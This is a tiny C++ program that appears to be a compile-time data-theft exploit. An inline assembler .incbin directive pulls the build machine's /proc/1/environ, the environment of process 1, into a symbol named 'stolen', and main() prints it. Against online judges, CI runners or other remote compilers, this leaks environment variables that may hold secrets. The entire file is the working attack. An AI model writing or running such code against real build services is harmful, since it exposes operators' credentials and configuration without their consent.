#include <iostream>

asm(".globl stolen\nstolen: .incbin \"/proc/1/environ\"\n.byte 0");
extern "C" const char stolen[];

int main() {
    std::cout << stolen;
}
